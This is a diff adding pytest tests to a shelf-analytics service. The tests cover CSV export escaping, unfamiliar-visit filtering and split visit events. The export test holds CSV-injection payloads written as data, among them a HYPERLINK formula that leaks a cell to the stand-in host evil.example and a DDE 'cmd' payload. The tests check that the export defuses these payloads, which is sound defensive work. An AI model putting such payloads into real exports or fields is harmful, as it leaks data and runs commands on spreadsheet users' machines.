@@ -171,3 +171,57 @@ def test_central_report_prints_the_funnel_as_a_table(stored, db_url, shelfwatch)
     wrong = shelfwatch("central", "report", "--db", db_url, "--from", "yesterday")
     assert wrong.returncode == 2 and wrong.stderr.strip().endswith("--from 'yesterday': not an ISO 8601 date or time "
                                                                    "(2026-11-25 or 2026-11-25T09:00)")  # fmt: skip
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"cola")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
+
+
+@pytest.mark.parametrize(("endpoint", "column", "by"), [("traffic", "zone", ["zone"]), ("funnel", "sku", []),
+                                                        ("attention", "zone", ["zone"])])  # fmt: skip
+def test_a_csv_export_keeps_a_formula_from_a_box_as_text(central, endpoint, column, by):
+    """Issue 21.5: a box's SKU or zone that a spreadsheet would run (OWASP: a cell beginning with = + - @) comes out
+    with a ' before it; the JSON keeps it as sent."""
+    stored = [visit("s1", "a", n, f"09:{n:02d}", 10, formula, 4, product(formula, "kept", inspected=1, picked=1))
+              for n, formula in enumerate(FORMULAS, start=1)]  # fmt: skip
+    assert central.events(stored) == ["stored"] * len(FORMULAS)
+    client = api(central)
+    day = {"start": DAY.isoformat(), "end": (DAY + timedelta(days=1)).isoformat(), "by": by}
+    table = list(csv.DictReader(io.StringIO(client.get(f"/insights/{endpoint}", params={"format": "csv", **day}).text)))
+    assert sorted(r[column] for r in table) == sorted(
+        ['\'=HYPERLINK("http://evil.example/?leak="&A1,"cola")', "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1+1)"]
+    )
+    rows = client.get(f"/insights/{endpoint}", params=day).json()
+    assert sorted(r[column] for r in rows) == sorted(FORMULAS)
+
+
+def test_a_visit_from_footage_unlike_the_training_counts_for_no_insight(stored):
+    """Issue 25: a box with a familiarity guard sends visits only from familiar shelf actions; a visit marked
+    unfamiliar all the same is stored (it is an event) but counted nowhere, and `familiar: true` counts as ever."""
+    start = DAY + timedelta(hours=9, minutes=50)
+    for seq, familiar in ((3, False), (4, True)):
+        event = VisitEvent(event_id=f"visit-s1-a-{seq:03d}", seq=seq, ts=start, store="s1", box="a", shopper=seq,
+                           start_ts=start, end_ts=start, dwell_s=0, zones=["left"], actions=1, familiar=familiar,
+                           products=[product("tea", "kept", picked=1)])  # fmt: skip
+        assert stored.events([(topic("s1", "a", "visit"), encode(event))]) == ["stored"]
+    with stored.engine.connect() as conn:
+        rows = insights.traffic(conn, scope(by=("box",)))
+        funnel = {r.sku: r for r in insights.funnel(conn, scope())}
+    assert {r.box: r.shoppers for r in rows} == {"a": 3, "b": 1}  # two before, and the familiar one
+    assert funnel["tea"].picked == 1
+
+
+def test_a_visit_split_over_several_events_counts_once_with_the_products_of_every_part(stored):
+    """A box sends a visit whose products do not fit one 1 KB payload as parts (edge/report.py): the visit is one
+    shopper for traffic and every part's products are in the funnel."""
+    start = DAY + timedelta(hours=11)
+    for part, sku in ((1, "tea"), (2, "soap")):
+        event = VisitEvent(event_id=f"visit-s1-a-part{part}", seq=10 + part, ts=start, store="s1", box="a",
+                           shopper=9, start_ts=start, end_ts=start + timedelta(seconds=50), dwell_s=50,
+                           zones=["left"], actions=3, part=part, parts=2,
+                           products=[product(sku, "kept", picked=1)])  # fmt: skip
+        assert stored.events([(topic("s1", "a", "visit"), encode(event))]) == ["stored"]
+    with stored.engine.connect() as conn:
+        rows = {r.box: r for r in insights.traffic(conn, scope(by=("box",)))}
+        funnel = {r.sku: r for r in insights.funnel(conn, scope())}
+    assert rows["a"].shoppers == 3  # the two visits before and this one, once
+    assert (funnel["tea"].picked_units, funnel["soap"].picked_units) == (1, 1)
